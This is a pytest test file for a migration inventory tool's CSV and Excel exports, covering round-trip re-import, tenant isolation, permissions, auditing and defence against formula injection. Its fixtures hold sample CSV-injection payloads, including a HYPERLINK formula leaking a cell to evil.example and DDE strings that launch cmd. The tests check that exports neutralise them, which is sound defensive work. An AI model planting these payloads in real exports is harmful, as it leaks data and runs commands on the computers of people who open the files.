"""Exports of a flow's gaps, questionnaires and assets in people's words; the asset export
re-imports unchanged."""

import csv
import io
import re

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from core.flows.child_flow_service import CollectionChildFlowService
from core.flows.orchestrator import MasterFlowOrchestrator
from core.inventory.export import (
    export_filename,
    export_filenames,
    export_flow,
    export_flow_to,
)
from core.inventory.importer import import_assets
from core.kernel.errors import BadRequest, Forbidden, NotFound
from db.models import Asset, AuditEvent
from tests.core.flows.test_child_flow_service import answer_everything, good_answer
from tests.core.inventory_files import servicenow_csv, snapshot_assets
from tests.factories import in_uow


def read_csv(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_csv_cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def read_xlsx(content: bytes) -> list[tuple]:
    workbook = load_workbook(io.BytesIO(content), read_only=True)
    rows = list(workbook.worksheets[0].iter_rows(values_only=True))
    workbook.close()
    return rows


def run_flow_to_the_end(db, ctx, asset_ids) -> str:
    flow_id = MasterFlowOrchestrator(db, ctx).create_flow(flow_name="Wave 1 / servers")
    service = CollectionChildFlowService(db, ctx)
    service.execute_phase(flow_id, "asset_selection", {"selected_asset_ids": asset_ids})
    service.execute_phase(flow_id, "gap_analysis")
    service.execute_phase(flow_id, "questionnaire_generation")
    answer_everything(db, ctx, flow_id, good_answer)
    service.execute_phase(flow_id, "manual_collection", {"submit_for_validation": True})
    service.execute_phase(flow_id, "data_validation")
    assert service.get_by_master_flow_id(flow_id).current_phase == "assessment"
    return flow_id


@pytest.fixture
def finished_flow(db, tenant):
    """A realistic inventory imported, and a flow over all of it run to assessment."""
    report = in_uow(db, tenant, import_assets, servicenow_csv(25), "cmdb.csv")
    assert report.created == 25
    asset_ids = [str(asset_id) for asset_id in db.scalars(select(Asset.id))]
    return run_flow_to_the_end(db, tenant, asset_ids)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_asset_export_of_a_finished_flow_reimports_without_a_change(
    db, tenant, finished_flow, fmt
):
    content = in_uow(db, tenant, export_flow, finished_flow, "assets", fmt)
    before = snapshot_assets(db)

    report = in_uow(db, tenant, import_assets, content, f"assets.{fmt}")

    assert (report.created, report.updated, report.unchanged, report.skipped) == (0, 0, 25, [])
    assert snapshot_assets(db) == before


def test_the_asset_export_holds_the_validated_values(db, tenant, finished_flow):
    rows = read_csv(in_uow(db, tenant, export_flow, finished_flow, "assets", "csv"))
    assert len(rows) == 25
    assert list(rows[0])[:6] == [
        "Name", "Asset type", "Operating system family", "Operating system version",
        "CPU cores", "Memory (GB)",
    ]  # fmt: skip
    gappy = next(row for row in rows if row["Name"] == "srv-00000")
    # Owner and environment were gaps, answered in the questionnaire and written back.
    assert (gappy["Business owner"], gappy["Environment"]) == ("Alex Kim", "production")
    assert gappy["Memory (GB)"] == "4" and gappy["Location"] == "DC1"
    assert gappy["Network zone"] == "dmz" and gappy["Asset type"] == "Server"


def test_the_gap_export_has_predictions_resolutions_and_asset_names(db, tenant, finished_flow):
    rows = read_csv(in_uow(db, tenant, export_flow, finished_flow, "gaps", "csv"))
    assert list(rows[0]) == [
        "Asset", "Field", "Gap type", "Category", "Priority", "Six-R impact", "Description",
        "Suggested resolution", "Predicted value", "Confidence", "Why predicted", "Status",
        "Resolved value", "Resolved at", "Agent", "Asset ID", "Gap ID",
    ]  # fmt: skip
    assert rows and {row["Status"] for row in rows} <= {"Resolved", "Skipped"}
    owner_gap = next(
        row for row in rows if row["Asset"] == "srv-00000" and row["Field"] == "Business owner"
    )
    assert owner_gap["Resolved value"] == "Alex Kim" and owner_gap["Resolved at"]
    assert owner_gap["Gap type"] == "Missing" and owner_gap["Priority"] == "Critical (P1)"
    assert (owner_gap["Category"], owner_gap["Six-R impact"]) == ("Business", "High")
    assert owner_gap["Agent"] == "Critical attribute scan"
    names = [row["Asset"] for row in rows]
    assert names == sorted(names)


def test_the_questionnaire_export_has_every_question_with_its_answer(db, tenant, finished_flow):
    content = in_uow(db, tenant, export_flow, finished_flow, "questionnaires", "xlsx")
    assert load_workbook(io.BytesIO(content), read_only=True).sheetnames == ["Questionnaires"]
    rows = read_xlsx(content)
    header, body = rows[0], rows[1:]
    assert header == (
        "Questionnaire", "Asset", "Questionnaire status", "Field", "Question", "Question type",
        "Required", "Priority", "Default", "Confidence", "Answer", "Validation",
        "Validation message", "Question ID", "Questionnaire ID",
    )  # fmt: skip
    answers = [dict(zip(header, row, strict=True)) for row in body]
    assert answers and all(row["Answer"] is not None for row in answers)
    assert {row["Validation"] for row in answers} == {"Valid"}
    owner = next(row for row in answers if row["Field"] == "Business owner")
    assert owner["Answer"] == "Alex Kim" and owner["Asset"] == owner["Questionnaire"]
    assert (owner["Question type"], owner["Required"]) == ("Text", "Yes")


def test_text_that_looks_like_a_formula_stays_text_in_excel(db, tenant):
    in_uow(db, tenant, import_assets, b"name,notes\nsrv-1,=HYPERLINK(1)\n", "a.csv")
    asset_ids = [str(asset_id) for asset_id in db.scalars(select(Asset.id))]
    flow_id = MasterFlowOrchestrator(db, tenant).create_flow(flow_name="Formulas")
    CollectionChildFlowService(db, tenant).execute_phase(
        flow_id, "asset_selection", {"selected_asset_ids": asset_ids}
    )
    content = in_uow(db, tenant, export_flow, flow_id, "assets", "xlsx")
    workbook = load_workbook(io.BytesIO(content))
    notes = [cell for cell in workbook.active[2] if cell.value == "=HYPERLINK(1)"]
    assert notes and notes[0].data_type == "s"


def test_another_tenants_flow_is_a_404_and_bad_choices_a_400(db, make_tenant, finished_flow):
    other = make_tenant()
    with pytest.raises(NotFound):
        in_uow(db, other, export_flow, finished_flow, "gaps", "csv")
    with pytest.raises(BadRequest):
        in_uow(db, other, export_flow, finished_flow, "everything", "csv")
    with pytest.raises(BadRequest):
        in_uow(db, other, export_flow, finished_flow, "gaps", "pdf")
    events = db.scalars(select(AuditEvent).where(AuditEvent.action == "flow_exported")).all()
    assert events == []


def test_a_manager_may_export_and_the_export_is_audited(db, tenant, finished_flow, make_member):
    manager = make_member(tenant, "manager")
    assert in_uow(db, manager, export_flow, finished_flow, "gaps", "xlsx")[:2] == b"PK"
    event = db.scalars(select(AuditEvent).where(AuditEvent.action == "flow_exported")).one()
    assert event.details == {"what": "gaps", "format": "xlsx"}


def test_export_needs_the_export_right(db, tenant, finished_flow, monkeypatch):
    from core.kernel import permissions

    monkeypatch.setitem(permissions.ROLE_ACTIONS, "analyst", frozenset({permissions.Action.VIEW}))
    with pytest.raises(Forbidden):
        in_uow(db, tenant, export_flow, finished_flow, "assets", "csv")


def test_export_filename(db, tenant, finished_flow, make_tenant):
    flow = CollectionChildFlowService(db, tenant).get_by_master_flow_id(finished_flow)
    assert export_filename(flow, "gaps", "xlsx") == "wave-1-servers-gaps.xlsx"
    names = in_uow(db, tenant, export_filenames, finished_flow)
    assert len(names) == 10 and names["assets", "csv"] == "wave-1-servers-assets.csv"
    assert names["azure_migrate", "csv"] == "wave-1-servers-azure-migrate.csv"
    with pytest.raises(NotFound):
        in_uow(db, make_tenant(), export_filenames, finished_flow)


def test_bad_choices_are_named_in_peoples_words(db, tenant, finished_flow):
    with pytest.raises(BadRequest) as raised:
        in_uow(db, tenant, export_flow, finished_flow, "everything", "csv")
    assert raised.value.field == "what"
    assert raised.value.message.startswith("What to export must be one of 'gaps'")
    with pytest.raises(BadRequest) as raised:
        in_uow(db, tenant, export_flow, "not-a-flow", "gaps", "csv")
    assert (raised.value.field, raised.value.message) == ("flow_id", "Flow must be a UUID")


# Text a spreadsheet would run as a formula when it opens a CSV (OWASP, CSV Injection).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
)
CONTROL_STARTS = ("\t=1+1", "\r=1+1")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def runnable_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would take for a formula: a formula character first, not a number."""
    return [
        cell
        for row in rows
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not PLAIN_NUMBER.fullmatch(cell)
    ]


def hostile_answer(question) -> object:
    if question["type"] == "text" and question["field_name"] != "end_of_support_date":
        return FORMULAS[0]
    return good_answer(question)


@pytest.fixture
def hostile_flow(db, tenant, make_assets):
    """A flow to assessment over assets named like formulas, with formula-like text answers."""
    assets = make_assets(tenant, len(FORMULAS), business_owner=None, environment=None)
    for asset, formula in zip(assets, FORMULAS, strict=True):
        asset.name = formula
        asset.custom_attributes = {
            **asset.custom_attributes,
            "notes": CONTROL_STARTS[0],
            "rack": CONTROL_STARTS[1],
            "support": "Dana;=1+1",  # a new cell, a formula, where Excel splits on ";"
        }
    db.commit()
    flow_id = MasterFlowOrchestrator(db, tenant).create_flow(flow_name="Formulas")
    service = CollectionChildFlowService(db, tenant)
    selected = [str(asset.id) for asset in assets]
    service.execute_phase(flow_id, "asset_selection", {"selected_asset_ids": selected})
    service.execute_phase(flow_id, "gap_analysis")
    service.execute_phase(flow_id, "questionnaire_generation")
    answer_everything(db, tenant, flow_id, hostile_answer)
    service.execute_phase(flow_id, "manual_collection", {"submit_for_validation": True})
    service.execute_phase(flow_id, "data_validation")
    return flow_id


def test_the_gap_export_writes_formula_like_names_and_answers_as_text(db, tenant, hostile_flow):
    rows = read_csv_cells(in_uow(db, tenant, export_flow, hostile_flow, "gaps", "csv"))
    assert runnable_cells(rows) == []
    gaps = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert {gap["Asset"] for gap in gaps} == {"'" + formula for formula in FORMULAS}
    owners = [gap for gap in gaps if gap["Field"] == "Business owner"]
    assert owners and {gap["Resolved value"] for gap in owners} == {"'" + FORMULAS[0]}


def test_the_questionnaire_export_writes_formula_like_answers_as_text(db, tenant, hostile_flow):
    rows = read_csv_cells(in_uow(db, tenant, export_flow, hostile_flow, "questionnaires", "csv"))
    assert runnable_cells(rows) == []
    answers = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert {row["Questionnaire"] for row in answers} == {"'" + formula for formula in FORMULAS}
    owners = [row for row in answers if row["Field"] == "Business owner"]
    assert owners and {row["Answer"] for row in owners} == {"'" + FORMULAS[0]}


def test_the_asset_export_writes_formula_like_names_and_values_as_text(db, tenant, hostile_flow):
    content = in_uow(db, tenant, export_flow, hostile_flow, "assets", "csv")
    rows = read_csv_cells(content)
    assert runnable_cells(rows) == []
    assert b'"Dana;=1+1"' in content
    assets = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert {asset["Name"] for asset in assets} == {"'" + formula for formula in FORMULAS}
    assert {(asset["Notes"], asset["Rack"]) for asset in assets} == {
        ("'" + CONTROL_STARTS[0], "'" + CONTROL_STARTS[1])
    }


def test_formula_like_text_is_a_text_cell_that_stays_text_when_edited_in_excel(
    db, tenant, hostile_flow
):
    content = in_uow(db, tenant, export_flow, hostile_flow, "assets", "xlsx")
    sheet = load_workbook(io.BytesIO(content)).active
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    # The text is kept exactly; Excel's own apostrophe (quotePrefix) marks it as text.
    assert sorted(cell.value for cell in names) == sorted(FORMULAS)
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names)
    assert not any(cell.quotePrefix for cell in sheet[1] if cell.value == "Name")


def test_numbers_stay_numbers(db, tenant, make_assets):
    [asset] = make_assets(tenant, cpu_cores=4, memory_gb=2.5)
    asset.custom_attributes = {"delta": -2.5, "offset": -3, "typed_delta": "-2.5", "sum": "-2+3"}
    db.commit()
    flow_id = MasterFlowOrchestrator(db, tenant).create_flow(flow_name="Numbers")
    CollectionChildFlowService(db, tenant).execute_phase(
        flow_id, "asset_selection", {"selected_asset_ids": [str(asset.id)]}
    )

    [row] = read_csv(in_uow(db, tenant, export_flow, flow_id, "assets", "csv"))
    assert (row["CPU cores"], row["Memory (GB)"]) == ("4", "2.5")
    # A plain number, even typed as text, is a number to a spreadsheet and can run nothing.
    assert (row["Delta"], row["Offset"], row["Typed delta"]) == ("-2.5", "-3", "-2.5")
    assert row["Sum"] == "'-2+3"

    header, values = read_xlsx(in_uow(db, tenant, export_flow, flow_id, "assets", "xlsx"))
    cells = dict(zip(header, values, strict=True))
    assert (cells["CPU cores"], cells["Memory (GB)"], cells["Delta"], cells["Offset"]) == (
        4,
        2.5,
        -2.5,
        -3,
    )
    assert cells["Sum"] == "-2+3"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_asset_export_with_formula_like_text_reimports_unchanged(db, tenant, make_assets, fmt):
    # Leading tabs are left out: the importer trims every cell, exported or not.
    names = (*FORMULAS, "'=already marked as text", "'an apostrophe", "-2.5")
    assets = make_assets(tenant, len(names))
    for asset, name in zip(assets, names, strict=True):
        asset.name = name
        asset.custom_attributes = {"note": name}
    db.commit()
    flow_id = MasterFlowOrchestrator(db, tenant).create_flow(flow_name="Round trip")
    CollectionChildFlowService(db, tenant).execute_phase(
        flow_id, "asset_selection", {"selected_asset_ids": [str(asset.id) for asset in assets]}
    )
    before = snapshot_assets(db)

    exported = in_uow(db, tenant, export_flow, flow_id, "assets", fmt)
    report = in_uow(db, tenant, import_assets, exported, f"a.{fmt}")

    assert (report.created, report.updated, report.skipped) == (0, 0, [])
    assert snapshot_assets(db) == before


@pytest.mark.both_backends
@pytest.mark.parametrize(
    ("what", "fmt"),
    [("gaps", "csv"), ("questionnaires", "xlsx"), ("azure_migrate", "csv"),
     ("aws_migration_hub", "csv")],
)  # fmt: skip
def test_an_export_streamed_to_a_file_holds_every_row_in_order(
    db, tenant, finished_flow, tmp_path, what, fmt
):
    path = tmp_path / f"export.{fmt}"
    with path.open("wb") as target:
        in_uow(db, tenant, export_flow_to, finished_flow, what, fmt, target)
    content = path.read_bytes()
    if fmt == "csv":  # the same file as export_flow's bytes (a workbook holds its own time)
        assert content == in_uow(db, tenant, export_flow, finished_flow, what, fmt)
    rows = read_xlsx(content)[1:] if fmt == "xlsx" else read_csv_cells(content)[1:]
    assert rows
    if what in ("azure_migrate", "aws_migration_hub"):
        assert len(rows) == 25  # one per asset of the flow
    if what == "gaps":
        names = [row[0] for row in rows]
        assert names == sorted(names)
